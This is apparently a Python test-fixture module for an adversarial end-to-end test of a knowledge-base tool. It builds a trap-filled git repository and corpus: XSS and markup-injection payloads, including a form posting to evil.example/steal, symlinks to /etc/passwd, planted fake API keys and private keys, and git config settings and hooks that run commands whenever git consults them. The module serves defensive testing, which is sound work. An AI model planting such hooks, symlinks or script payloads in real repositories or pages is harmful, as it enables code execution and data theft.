"""Hostile inputs for the whole-pipeline adversarial test (tests/test_hostile_e2e.py).

`make_hostile_repo` builds a git repository full of traps (symlinks out of the tree, planted secrets, file
names and text that try to become markup, binary and non-UTF-8 files, a huge sparse file);
`make_hostile_corpus` writes a local document corpus with script-carrying HTML, Markdown and PDF;
`hostile_model_reply` is what a compromised or confused model answers. The module-level markers are the
strings that must never appear in anything deepkb writes or sends.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

from llm_fakes import RecordedRequest

# Bytes that live OUTSIDE the repository, reachable only through its symlinks.
OUTSIDE_MARKER = "OUTSIDE-MARKER-q7v3x9z2k4"
OUTSIDE_DIR_MARKER = "OUTSIDE-DIR-MARKER-m5n8b1c6"
PASSWD_MARKER = "root:x:0:0"
IGNORED_MARKER = "GITIGNORED-MARKER-w2e4r6t8"
# Planted in the repository's source: each must be redacted before any LLM call and any page.
ANTHROPIC_SECRET = (
    "sk-ant-api03-Qz8vN3kLmP0wXr7TjY2bH5cD9fG1sA4eU6iO8pK3lM0nB7vC2xZ5qW9eR1tY4uI6oP3aS8dF0gH2jK5l-AbCdEfAA"
)
AWS_SECRET = "AKIAQ7ZX4MN2PLK8RT3W"
PEM_BODY_LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7hostileKeyMaterialZz"
PEM_BLOCK = (
    "-----BEGIN PRIVATE KEY-----\n"
    f"{PEM_BODY_LINE}\n"
    "q3K8vR2xN9mL4pT7wY1zB6cF0hJ5sD8gA2eU3iO9kP7lM4nQ1rS6tV0xW5yZ8aC3bE7dG\n"
    "-----END PRIVATE KEY-----\n"
)
# Secrets in the common formats of finding 2 (issue 8): unquoted YAML, prose, GitLab, npm, Slack webhook,
# Bearer, Twilio, a hex key passed as an argument.
YAML_PASSWORD = "CorrectHorseBatteryStapleQx"
YAML_HEX_KEY = "9b1f4c7e2a6d8053" * 4
PROSE_PASSWORD = "Tr0ub4dor&3-hostile"
GITLAB_TOKEN = "glpat-Hq7Zr2Kx9Lm4Np1Vb6Ty"
NPM_TOKEN = "npm_Zk4Lm9Qw2Er7Ty1Ui8Op3As6Df0Gh5Jk2Lx"
SLACK_WEBHOOK_SECRET = "hW3kP9sQ2vX7zB4nM8cL1dF6"
SLACK_WEBHOOK = f"https://hooks.slack.com/services/T0HOSTILE1/B0HOSTILE2/{SLACK_WEBHOOK_SECRET}"
BEARER_SECRET = "bXktYmVhcmVyLXRva2VuLWhvc3RpbGUtNDI5"
TWILIO_KEY = "SK" + "7c1e9a3f5b2d4e6f8a0b1c2d3e4f5a6b"
HEX_ARGUMENT_KEY = "e7a1c9f3b5d2e8a4" * 4
FORMAT_SECRETS = (
    YAML_PASSWORD,
    YAML_HEX_KEY,
    PROSE_PASSWORD,
    GITLAB_TOKEN,
    NPM_TOKEN,
    SLACK_WEBHOOK_SECRET,
    BEARER_SECRET,
    TWILIO_KEY,
    HEX_ARGUMENT_KEY,
)
SETTINGS_YML = f"""\
# deployment settings
database:
  host: db.internal
  password: {YAML_PASSWORD}
signing:
  api_key: {YAML_HEX_KEY}
gitlab:
  token: {GITLAB_TOKEN}
notify:
  webhook: {SLACK_WEBHOOK}
"""
# The value of a secret environment variable of the process running deepkb.
ENV_SECRET_NAME = "MYSERVICE_API_KEY"
ENV_SECRET = "envsecret-Hj4Kl9Qw2Er7Ty1Ui"

SECRETS = (ANTHROPIC_SECRET, AWS_SECRET, PEM_BODY_LINE, ENV_SECRET, *FORMAT_SECRETS)
# Nothing read through a symlink may surface anywhere.
LEAK_MARKERS = (OUTSIDE_MARKER, OUTSIDE_DIR_MARKER, PASSWD_MARKER, IGNORED_MARKER, *SECRETS)

HOSTILE_TEXT = """\
<script>alert('s1')</script>
<iframe src="https://evil.example/frame"></iframe>
<img src=x onerror=alert('s2')>
<object data="evil.swf"></object><embed src="evil.swf">
[x](javascript:alert('s3')) and [v](vbscript:msgbox) and ![y](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
{: onclick=alert('s4') }
---
title: pwned
tags: [pwned]
---
"]; click n0 call alert('s5')
click A href "javascript:alert('s6')"
````````````````
</code></pre><script>alert('s7')</script>
<svg onload=alert('s8')><a href="jav&#x09;ascript:alert('s9')">tab</a></svg>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert('s10')">
<form action="https://evil.example/steal"><input name=password></form>
<math><mi xlink:href="javascript:alert('s11')">m</mi></math> <style>body{display:none}</style>
[ref][1] <!-- comment --> <div markdown="1" style="position:fixed">overlay</div>

[1]: javascript:alert('s12')
"""

README = f"""\
# hostile <script>alert('readme')</script>

A tiny service client. ![y](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

{HOSTILE_TEXT}
Config reads {ENV_SECRET_NAME} from the environment; the staging value is {ENV_SECRET}.
Our AWS key {AWS_SECRET} and the Anthropic key {ANTHROPIC_SECRET} are rotated monthly.
The staging DB password: {PROSE_PASSWORD} (ask ops before you use it).
Publish with `NPM_TOKEN={NPM_TOKEN} npm publish`; alerts go to {SLACK_WEBHOOK}.
Call the API with `curl -H "Authorization: Bearer {BEARER_SECRET}" https://api.example.invalid/v1`.
"""

CLIENT_PY = f'''\
"""Service client. <script>alert('doc')</script> [x](javascript:alert(1))

{HOSTILE_TEXT}"""

import os

from .util import helper

# AWS key left behind by accident: {AWS_SECRET}
ANTHROPIC = "{ANTHROPIC_SECRET}"
TWILIO_API_KEY_SID = "{TWILIO_KEY}"


def connect(url: str) -> str:
    """Connect with {ENV_SECRET} to <iframe src=x></iframe> the service ``</code>`` {{: onclick=alert(1) }}."""
    sign(url, "{HEX_ARGUMENT_KEY}")
    return helper(url) + os.environ.get("{ENV_SECRET_NAME}", "{ENV_SECRET}")


def sign(url: str, key: str) -> str:
    """Sign a request for {GITLAB_TOKEN} users."""
    return url + key


class Client:
    """Talks to the service. \\"]; click n0 call alert(1)"""

    def get(self, path: str) -> str:
        """GET a path."""
        return connect(path)
'''

UTIL_PY = f'''\
"""Helpers. ---\\ntitle: pwned"""

KEY = """{PEM_BLOCK}"""


def helper(url: str) -> str:
    """Return the url unchanged. {"x" * 3000}"""
    return url
'''

MAIN_JS = """\
// entry point <script>alert('js')</script>
import { connect } from './net.js';
export function main() { return connect('javascript:alert(1)'); }
"""

NET_JS = """\
/** net <img src=x onerror=alert(1)> */
export function connect(u) { return u; }
"""

# Names a file system accepts and git commits; names git refuses are simply not committed.
HOSTILE_NAMES = (
    "<img src=x onerror=alert(1)>.py",
    "quote\"'name.py",
    "back`tick`.py",
    "close]]bracket.py",
    "new\nline.py",
    "dash---\ntitle: pwned.py",
)


def _git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)


def make_outside(base: Path) -> Path:
    """Files outside the repository that its symlinks point at."""
    outside = base / "outside"
    (outside / "dir").mkdir(parents=True)
    (outside / "secret.txt").write_text(f"{OUTSIDE_MARKER}\n", encoding="utf-8")
    (outside / "dir" / "inner.py").write_text(f'"""{OUTSIDE_DIR_MARKER}"""\n', encoding="utf-8")
    return outside


def make_hostile_repo(base: Path) -> Path:
    """A committed repository at base/hostile full of traps; `outside/` beside it holds the link targets."""
    from conftest import make_git_repo

    outside = make_outside(base)
    repo = make_git_repo(
        base / "hostile",
        {
            "README.md": README,
            ".gitignore": "ignored/\n*.log\n",
            "ignored/hidden.py": f'"""{IGNORED_MARKER}"""\n',
            "svc/__init__.py": '"""Service package."""\n\nfrom .client import Client\n',
            "svc/client.py": CLIENT_PY,
            "svc/util.py": UTIL_PY,
            "web/main.js": MAIN_JS,
            "web/net.js": NET_JS,
            "docs/long.md": "# Long\n\n" + ("<b>wide</b> " * 20_000) + "\n",
            "docs/fence.md": "# Fence\n\n"
            + "`" * 40
            + "\n<script>alert('fence')</script>\n"
            + "`" * 40
            + "\n",
            ".env": f"{ENV_SECRET_NAME}={ENV_SECRET}\nAWS_ACCESS_KEY_ID={AWS_SECRET}\n",
            "deploy/settings.yml": SETTINGS_YML,
        },
        origin="https://github.com/acme/hostile.git",
    )
    _add_links(repo, outside)
    _add_odd_files(repo)
    _git(repo, "add", "-A")
    # a signed HEAD: with log.showSignature, any `git log` in the repository would run its gpg.program
    signer = _script(base, "signer", "", sign=True)
    _git(repo, "-c", f"gpg.program={signer}", "-c", "user.signingkey=x", "commit", "-q", "-S", "-m", "traps")
    _plant_git_config(repo, base)
    # Untracked and not ignored, so the map walks past it; `git add` would read all 3 GiB.
    with open(repo / "huge.py", "wb") as handle:
        handle.truncate(3 * 1024**3)
    return repo


def _plant_git_config(repo: Path, base: Path) -> None:
    """Repository configuration and hooks that run a command whenever git would consult them; each command
    leaves a `pwned-*` file in `base`, so a test can see whether git ever ran it."""
    commands = {
        "core.fsmonitor": "fsmonitor",
        "core.pager": "pager",
        "diff.external": "external-diff",
        "core.sshCommand": "ssh",
        "filter.evil.clean": "clean",
        "filter.evil.smudge": "smudge",
        "filter.evil.process": "process",
        "diff.evil.textconv": "textconv",
    }
    for key, tag in commands.items():
        _git(repo, "config", key, f"touch {base}/pwned-{tag}")
    # programs git runs by path, not through a shell: a script per setting
    _git(repo, "config", "log.showSignature", "true")
    _git(repo, "config", "gpg.program", str(_script(base, "gpg", f"touch {base}/pwned-gpg", sign=True)))
    _git(repo, "config", "credential.helper", f"!touch {base}/pwned-credential")
    included = base / "included.gitconfig"
    gpg_ssh = _script(base, "gpg-ssh", f"touch {base}/pwned-gpg-ssh")
    included.write_text(f'[gpg "ssh"]\n\tprogram = {gpg_ssh}\n[core]\n\thooksPath = {repo}/.git/hooks\n')
    _git(repo, "config", "include.path", str(included))
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "attributes").write_text("* filter=evil diff=evil\n", encoding="utf-8")
    for hook in ("post-checkout", "post-index-change", "pre-commit", "reference-transaction"):
        script = repo / ".git" / "hooks" / hook
        script.write_text(f"#!/bin/sh\ntouch {base}/pwned-hook-{hook}\n", encoding="utf-8")
        script.chmod(0o755)


def _script(base: Path, name: str, action: str, *, sign: bool = False) -> Path:
    """An executable script doing `action`; with `sign`, it also answers a signing request as gpg would."""
    path = base / f"{name}.sh"
    answer = (
        'case "$*" in *-bsau*) echo "[GNUPG:] SIG_CREATED D 1 8 00 0 X" >&2;'
        ' printf -- "-----BEGIN PGP SIGNATURE-----\\nfake\\n-----END PGP SIGNATURE-----\\n";; esac\n'
        if sign
        else ""
    )
    path.write_text(f"#!/bin/sh\n{action}\n{answer}cat >/dev/null 2>&1\nexit 0\n", encoding="utf-8")
    path.chmod(0o755)
    return path


def _add_links(repo: Path, outside: Path) -> None:
    os.symlink(outside / "secret.txt", repo / "leak.py")
    os.symlink("/etc/passwd", repo / "passwd.md")
    os.symlink("/dev/urandom", repo / "random.py")
    os.symlink("leak.py", repo / "chain1.py")
    os.symlink("chain1.py", repo / "chain2.py")
    os.symlink(outside / "dir", repo / "linked_dir")
    os.symlink("../../outside/secret.txt", repo / "svc" / "relative_leak.py")


def _add_odd_files(repo: Path) -> None:
    (repo / "svc" / "latin1.py").write_bytes(
        b'"""Caf\xe9 cr\xe8me <script>alert(1)</script>"""\n\ndef menu():\n    return "\xff\xfe"\n'
    )
    (repo / "svc" / "blob.py").write_bytes(b"\x7fELF\x00\x00\x01" + bytes(range(256)) * 8)
    for name in HOSTILE_NAMES:
        try:
            (repo / "odd" / name).parent.mkdir(exist_ok=True)
            (repo / "odd" / name).write_text(f'"""{name} <script>alert(1)</script>"""\n', encoding="utf-8")
        except OSError:
            continue  # a file system that refuses the name is a file system that is safe from it


HTML_PAGE = """\
<!doctype html>
<html><head><title>Widgets &lt;script&gt;alert('t')&lt;/script&gt; <script>alert('title')</script></title>
<script>alert('head')</script></head>
<body onload="alert('body')">
<h1>Widget frameworks</h1>
<p>Widget frameworks render widgets. A widget framework composes widgets into trees.
Widget rendering is the core of every widget framework. <a href="javascript:alert('a')">click</a></p>
<p><img src="x" onerror="alert('img')"> Widgets update when their state changes &lt;script&gt;alert('esc')&lt;/script&gt;.</p>
<iframe src="https://evil.example/"></iframe>
<p>Frameworks schedule widget updates in batches. [md](javascript:alert('mdlink'))</p>
</body></html>
"""

MD_DOC = f"""\
---
title: "pwned\\n<script>alert('fm')</script>"
tags: ["<img src=x onerror=alert(1)>"]
---
# Widget state <script>alert('md')</script>

Widget state lives in a store. Widgets subscribe to the store and re-render on change.
Widget frameworks batch state changes for speed. 组件框架把状态变化合并成批量更新。

{HOSTILE_TEXT}
"""


def make_hostile_corpus(folder: Path) -> Path:
    """HTML, Markdown, text and PDF documents about widget frameworks, each carrying live-markup traps."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "widgets.html").write_text(HTML_PAGE, encoding="utf-8")
    (folder / "state.md").write_text(MD_DOC, encoding="utf-8")
    (folder / "notes.txt").write_text(
        "Widget frameworks <script>alert('txt')</script> diff widget trees.\n"
        "Widget trees are compared to find the smallest update. [x](javascript:alert(1))\n",
        encoding="utf-8",
    )
    _write_pdf(folder / "paper.pdf")
    hostile_names = {
        "<img src=x onerror=alert(1)>.md": "Widget frameworks render widgets lazily on first paint.",
        "x](javascript:alert(1)).md": "Widget state machines drive framework transitions between screens.",
        "dash---\ntitle: pwned.md": "Widget frameworks measure layout before they draw any widget tree.",
    }
    for name, text in hostile_names.items():
        (folder / name).write_text(f"# {name}\n\n{text}\n", encoding="utf-8")
    _add_corpus_traps(folder)
    return folder


def _add_corpus_traps(folder: Path) -> None:
    """Links out of the corpus, a FIFO that would block a reader forever, a huge sparse document."""
    outside = folder.parent.parent / "outside"  # make_outside() put it beside the knowledge base
    os.symlink(outside / "secret.txt", folder / "leak.md")
    os.symlink("/etc/passwd", folder / "passwd.txt")
    os.symlink("/dev/urandom", folder / "random.md")
    os.symlink(outside / "dir", folder / "linked")
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "pipe.md")
    with open(folder / "huge.md", "wb") as handle:
        handle.truncate(3 * 1024**3)


def _write_pdf(path: Path) -> None:
    """A one-page PDF whose text layer carries a script tag (pypdf, no extra dependency)."""
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=612, height=792)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    stream = DecodedStreamObject()
    lines = [
        "Widget frameworks in PDF form <script>alert(pdf)</script>",
        "Widget trees render widgets javascript:alert(1)",
    ]
    ops = "".join(f"BT /F1 12 Tf 72 {720 - 20 * i} Td ({line}) Tj ET\n" for i, line in enumerate(lines))
    stream.set_data(ops.encode("latin-1"))
    page[NameObject("/Contents")] = writer._add_object(stream)
    with open(path, "wb") as handle:
        writer.write(handle)


HOSTILE_PROSE = """\
<script>alert('model')</script> The client `</code></pre><script>alert('code')</script>` connects.
See [docs](javascript:alert('model-link')) and ![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+).
<img src=x onerror=alert('model-img')> <iframe src="https://evil.example/"></iframe>
{: onclick=alert('attr') }
It is grounded in svc/client.py:1-5, svc/client.py:9000-9100 (no such lines),
ghost/missing.py:1-3 (no such file) and ../../outside/secret.txt:1-1 and /etc/passwd:1-1 [1] [99].
---
title: pwned-by-model
---

```mermaid
graph TD
  A["x"]; click A call alert(1)
  B --> C
  click B href "javascript:alert(2)"
```
"""


def hostile_json(request: RecordedRequest) -> dict[str, object]:
    """One JSON answer that fits every schema a prompt asks for (extra keys are ignored), every string a trap."""
    evil = "<script>alert('json')</script>\n---\ntitle: pwned [x](javascript:alert(1))"
    paths = [
        "svc/client.py",
        "svc/util.py",
        "web/main.js",
        "../../outside/secret.txt",
        "/etc/passwd",
        "leak.py",
    ]
    return {
        "shards": [
            {"name": f"Core {evil}", "files": paths[:2] + paths[3:], "rationale": evil},
            {"name": "Web <img src=x onerror=alert(1)>", "files": ["web/main.js", "web/net.js"], "rationale": evil},
        ],
        "scores": [
            {"index": n, "path": path, "score": 0.9, "reason": "<img src=x onerror=alert(1)>"}
            for n, path in enumerate(paths, 1)
        ],
        "sub_queries": [f"widget frameworks {evil}", "widget state"],
        "steps": [
            {"title": f"Research widgets {evil}", "description": evil, "step_type": "research", "depends_on": []},
            {"title": "Chart <script>alert(1)</script>", "description": evil, "step_type": "processing",
             "depends_on": []},
        ],
        "has_enough_context": True,
        "claims": [
            {"text": f"Widgets render trees {evil} [2] [99]", "citations": [1, 99]},
            {"text": "<iframe src=x></iframe> widget state lives in stores [3]", "citations": [3]},
        ],
        "clusters": [{"label": evil[:100], "items": ["local-0000000000", "1"], "confidence": 0.9}],
        "entities": [{"name": "<img src=x onerror=alert(1)>", "type": "thing", "mentions": 3}],
        "kind": "pie",
        "title": "<script>alert('chart')</script>",
        "unit": "%",
        "rows": [{"label": '"]; click n0 call alert(1)', "value": 3, "source": "local-0000000000"}],
        "summary": evil,
        "tags": ["<img src=x onerror=alert(1)>", "widget", "pwned\n---"],
    }  # fmt: skip


def hostile_model_reply(request: RecordedRequest) -> str:
    """What the fake LLM answers: schema-shaped JSON when JSON is asked for, hostile prose otherwise."""
    if request.json_mode:
        return json.dumps(hostile_json(request))
    return HOSTILE_PROSE
